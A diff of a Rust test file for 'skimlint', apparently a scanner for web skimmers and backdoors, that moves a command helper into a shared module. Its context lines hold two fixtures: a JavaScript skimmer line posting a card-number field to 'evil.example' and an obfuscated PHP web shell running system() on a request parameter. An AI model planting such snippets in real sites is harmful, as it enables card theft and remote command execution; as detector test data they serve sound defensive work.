@@ -1,15 +1,10 @@
 //! Configuration files, inline suppressions, baselines and `skimlint diff`, through the binary.
 
+mod common;
+use common::skimlint;
 use std::path::{Path, PathBuf};
 
-use assert_cmd::Command;
 use predicates::prelude::*;
-
-fn skimlint() -> Command {
-    let mut c = Command::cargo_bin("skimlint").unwrap();
-    c.env("NO_COLOR", "1");
-    c
-}
 
 const SKIMMER_JS: &str = "var x = 1;\nfetch(\"https://evil.example/c\", {method: \"POST\", body: document.querySelector(\"#cc_number\").value});\n";
 const BACKDOOR_PHP: &str = "<?php\n$f = \"sys\".\"tem\"; $f($_GET[\"c\"]);\n";
